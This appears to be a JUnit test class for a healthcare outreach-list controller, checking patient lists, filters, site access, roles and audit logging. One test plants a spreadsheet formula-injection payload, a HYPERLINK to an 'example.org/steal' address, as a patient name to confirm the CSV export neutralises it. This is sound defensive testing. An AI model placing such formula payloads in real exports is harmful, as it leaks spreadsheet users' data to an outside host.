package org.stratum.app.web.outreach;

import static org.assertj.core.api.Assertions.assertThat;

import de.siegmar.fastcsv.reader.CsvReader;
import de.siegmar.fastcsv.reader.NamedCsvRecord;
import java.nio.charset.StandardCharsets;
import java.util.HashSet;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.stream.Collectors;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.jdbc.core.simple.JdbcClient;
import org.springframework.test.web.servlet.assertj.MvcTestResult;
import org.stratum.app.organisation.UserSites;
import org.stratum.app.web.measures.MeasuredPages;

/**
 * Outreach lists over a measured synthetic warehouse, checked against plain SQL over
 * {@code measure_result}: who is listed, filters, site scope, roles, and the audit log.
 */
class OutreachControllerTests extends MeasuredPages {
    private static final String BP = "controlling-high-blood-pressure";
    /** Eligible, not meeting the measure, at the given sites (bound after the measure and period). */
    private static final String NOT_MET_AT_SITES = """
            SELECT r.patient_id FROM measure_result r JOIN patient p USING (patient_id)
            WHERE r.measure_id = ? AND r.period_start = ? AND r.period_end = ? AND r.group_id = (
                SELECT min(group_id) FROM measure_result WHERE measure_id = r.measure_id)
              AND r.denominator AND NOT r.denominator_exclusion AND NOT r.denominator_exception
              AND %s AND r.site_id IN (%s) %s""";

    @Autowired
    UserSites userSites;

    @Autowired
    JdbcClient workflow;

    List<String> sites;

    @BeforeEach
    void analystAssignedTheFirstTwoSites() {
        sites = sql("SELECT DISTINCT site_id FROM measure_result WHERE measure_id = ? AND period_start = ?"
                + " AND period_end = ? AND site_id IS NOT NULL ORDER BY site_id", BP).stream().map(r -> r.get(0)).toList();
        assertThat(sites).hasSizeGreaterThan(2);
        userSites.assign("analyst", sites.subList(0, 2));
    }

    @Test
    void theListIsTheAnalystsSitesEligiblePatientsNotInTheNumerator() {
        Set<String> expected = expected(BP, "NOT r.numerator", sites.subList(0, 2), "");

        List<NamedCsvRecord> rows = csv("analyst", "/outreach.csv?measure=" + BP + "&period=2025");

        assertThat(rows).extracting(r -> r.getField("patient_id")).doesNotHaveDuplicates()
                .containsExactlyInAnyOrderElementsOf(expected);
        assertThat(rows).extracting(r -> r.getField("site_id")).allMatch(sites.subList(0, 2)::contains);
        assertThat(expected).hasSizeGreaterThan(50);
    }

    @Test
    void forAMeasureWhereLowerIsBetterTheListIsThePatientsInTheNumerator() {
        String poorControl = "diabetes-glycemic-status-poor-control";
        Set<String> expected = expected(poorControl, "r.numerator", sites.subList(0, 2), "");

        assertThat(csv("analyst", "/outreach.csv?measure=" + poorControl))
                .extracting(r -> r.getField("patient_id")).containsExactlyInAnyOrderElementsOf(expected);
        assertThat(expected).isNotEmpty();
    }

    @Test
    void aLanguageFilterByCodeOrByItsLabelListsThePatientsPreferringIt() {
        Set<String> expected = expected(BP, "NOT r.numerator", sites.subList(0, 2), "AND p.preferred_language = 'es'");

        List<NamedCsvRecord> byCode = csv("analyst", "/outreach.csv?measure=" + BP + "&filter=language=es");
        List<NamedCsvRecord> byLabel = csv("analyst", "/outreach.csv?measure=" + BP + "&filter=language=Spanish (es)");

        assertThat(byCode).extracting(r -> r.getField("patient_id")).containsExactlyInAnyOrderElementsOf(expected);
        assertThat(byLabel).extracting(r -> r.getField("patient_id")).containsExactlyInAnyOrderElementsOf(expected);
        assertThat(byCode).extracting(r -> r.getField("preferred_language")).containsOnly("Spanish (es)");
        assertThat(expected).isNotEmpty();
    }

    @Test
    void filtersCombineAndASiteOfTheAnalystNarrowsTheList() {
        Set<String> expected = expected(BP, "NOT r.numerator", List.of(sites.get(1)),
                "AND p.interpreter_needed = 'yes'");

        assertThat(csv("analyst", "/outreach.csv?measure=" + BP + "&filter=site=" + sites.get(1)
                + "&filter=interpreter=yes")).extracting(r -> r.getField("patient_id"))
                .containsExactlyInAnyOrderElementsOf(expected);
    }

    @Test
    void anAdministratorWithoutSitesSeesEveryEligiblePatientNotMeetingTheMeasure() {
        List<List<String>> all = sql("""
                SELECT count(*) FROM measure_result r WHERE r.measure_id = ? AND r.period_start = ? AND r.period_end = ?
                  AND r.denominator AND NOT r.denominator_exclusion AND NOT r.denominator_exception AND NOT r.numerator""", BP);

        assertThat(csv("admin", "/outreach.csv?measure=" + BP)).hasSize(Integer.parseInt(all.get(0).get(0)));
    }

    @Test
    void thePageShowsFiftyPatientsAtATimeOfTheWholeList() {
        int total = expected(BP, "NOT r.numerator", sites.subList(0, 2), "").size();

        String second = page("analyst", "/outreach?measure=" + BP + "&page=2");

        assertThat(second).contains(String.format("Patients 51 to %d of %d.", Math.min(100, total), total));
        assertThat(second.split("<tr>", -1).length - 2).isEqualTo(Math.min(50, total - 50));
    }

    @Test
    void aSiteOutsideTheAnalystsSitesIsRefusedByName() {
        String other = sites.get(2);

        MvcTestResult result = get("analyst", "/outreach?measure=" + BP + "&filter=site=" + other);

        assertThat(result).hasStatus(403);
        assertThat(result).bodyText().contains("You are not assigned to site &#39;" + other + "&#39;");
        assertThat(get("analyst", "/outreach.csv?measure=" + BP + "&filter=site=" + other)).hasStatus(403);
    }

    @Test
    void theMeasurePageOffersAnalystsEachStratumsListAndViewersNone() {
        String analysts = page("analyst", "/measures/" + BP + "?by=language");

        assertThat(analysts).contains("href=\"/outreach?measure=" + BP + "&amp;period=2025-01-01/2025-12-31&amp;group=")
                .contains("filter=language%3DSpanish%20(es)").contains("List: Spanish (es)");
        assertThat(page("viewer", "/measures/" + BP + "?by=language")).doesNotContain("/outreach?").doesNotContain("List: ");
    }

    @Test
    void aViewerIsRefusedTheListAndItsExport() {
        assertThat(get("viewer", "/outreach?measure=" + BP)).hasStatus(403);
        assertThat(get("viewer", "/outreach.csv?measure=" + BP)).hasStatus(403);
    }

    @Test
    void everyViewAndExportIsInTheAuditLogWithWhoAndWhat() {
        long before = auditCount();

        page("analyst", "/outreach?measure=" + BP + "&filter=language=es");
        csv("analyst", "/outreach.csv?measure=" + BP + "&filter=language=es");

        List<Map<String, Object>> events = workflow.sql("""
                SELECT username, action, subject, detail FROM audit_event WHERE id > ? ORDER BY id""")
                .param(before).query().listOfRows();
        assertThat(events).extracting(e -> e.get("action")).containsExactly("outreach.view", "outreach.export");
        assertThat(events).allSatisfy(e -> {
            assertThat(e.get("username")).isEqualTo("analyst");
            assertThat((String) e.get("subject")).startsWith("/outreach?measure=" + BP).contains("filter=language%3Des");
        });
    }

    @Test
    void aNameASpreadsheetWouldRunAsAFormulaIsExportedAsText() {
        String patient = expected(BP, "NOT r.numerator", sites.subList(0, 2), "").iterator().next();
        String link = "=HYPERLINK(\"http://example.org/steal?x=\"&A1,\"Click\")";
        List<String> name = renamePatient(patient, link, "@SUM(1+1)");
        try {
            List<NamedCsvRecord> rows = csv("analyst", "/outreach.csv?measure=" + BP);

            NamedCsvRecord row = rows.stream().filter(r -> r.getField("patient_id").equals(patient)).findFirst()
                    .orElseThrow();
            assertThat(row.getField("family_name")).isEqualTo("'" + link);
            assertThat(row.getField("given_name")).isEqualTo("'@SUM(1+1)");
            assertThat(rows).extracting(r -> r.getField("family_name")).noneMatch(n -> n.startsWith("="));
        } finally {
            renamePatient(patient, name.get(0), name.get(1));
        }
    }

    /** Gives a patient another name in the warehouse and returns the one they had. */
    private List<String> renamePatient(String patientId, String family, String given) {
        try (var connection = warehouse.connect()) {
            List<String> before;
            try (var query = connection.prepareStatement("SELECT family_name, given_name FROM patient WHERE patient_id = ?")) {
                query.setString(1, patientId);
                try (var result = query.executeQuery()) {
                    result.next();
                    before = java.util.Arrays.asList(result.getString(1), result.getString(2));
                }
            }
            try (var update = connection.prepareStatement(
                    "UPDATE patient SET family_name = ?, given_name = ? WHERE patient_id = ?")) {
                update.setString(1, family);
                update.setString(2, given);
                update.setString(3, patientId);
                assertThat(update.executeUpdate()).isEqualTo(1);
            }
            return before;
        } catch (java.sql.SQLException e) {
            throw new IllegalStateException(e);
        }
    }

    @Test
    void aWrongParameterIsNamedOnA400Page() {
        assertThat(get("analyst", "/outreach?measure=" + BP + "&filter=shoe-size=42")).hasStatus(400)
                .bodyText().contains("The filter cannot be used").contains("&#39;shoe-size&#39; is not a dimension");
        assertThat(get("analyst", "/outreach?measure=" + BP + "&filter=language")).hasStatus(400)
                .bodyText().contains("write DIMENSION=VALUE");
        assertThat(get("analyst", "/outreach?measure=nonsense")).hasStatus(400)
                .bodyText().contains("There is no measure &#39;nonsense&#39;");
        assertThat(get("analyst", "/outreach?measure=" + BP + "&period=last-tuesday")).hasStatus(400)
                .bodyText().contains("The period cannot be used");
        assertThat(get("analyst", "/outreach?measure=" + BP + "&page=0")).hasStatus(400);
    }

    private long auditCount() {
        return workflow.sql("SELECT coalesce(max(id), 0) FROM audit_event").query(Long.class).single();
    }

    private Set<String> expected(String measure, String goalNotMet, List<String> siteIds, String more) {
        String in = siteIds.stream().map(s -> "'" + s + "'").collect(Collectors.joining(", "));
        return sql(String.format(NOT_MET_AT_SITES, goalNotMet, in, more), measure).stream().map(r -> r.get(0))
                .collect(Collectors.toCollection(HashSet::new));
    }

    private List<NamedCsvRecord> csv(String username, String uri) {
        MvcTestResult result = get(username, uri);
        assertThat(result).hasStatusOk();
        assertThat(result.getResponse().getHeader("Content-Disposition")).startsWith("attachment");
        try {
            String body = result.getResponse().getContentAsString(StandardCharsets.UTF_8);
            return CsvReader.builder().ofNamedCsvRecord(body).stream().toList();
        } catch (java.io.UnsupportedEncodingException e) {
            throw new IllegalStateException(e);
        }
    }
}
